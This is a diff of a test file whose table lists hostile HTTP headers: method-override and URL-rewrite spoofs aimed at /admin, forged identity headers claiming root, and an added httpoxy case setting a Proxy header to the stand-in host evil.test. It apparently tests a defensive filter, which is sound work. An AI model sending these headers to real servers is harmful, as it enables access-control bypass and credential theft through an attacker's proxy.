@@ -45,6 +45,8 @@ test.each([
   ],
   // Lighttpd makes HTTP_X_HTTP_METHOD_OVERRIDE of it.
   ['A-21', ['X.HTTP.Method.Override: DELETE', 'X~Original~URL: /admin', "X'Method*Override: DELETE"]],
+  // Programs behind CGI send what they ask of others, with the credentials for it, through that proxy (httpoxy).
+  ['A-39', ['Proxy: http://evil.test:8080']],
   ['A-39', ['X-Original-URL: /admin', 'X-Rewrite-URL: /admin', 'X-HTTP-Method-Override: DELETE']],
   ['A-62', ['X-Forwarded-User: root', 'Remote-User: root', 'X-Remote-User: root', 'X-Forwarded-Groups: admins']],
   // Taken for the caller's address by PHP programs, WebLogic, and the usual libraries of Node.
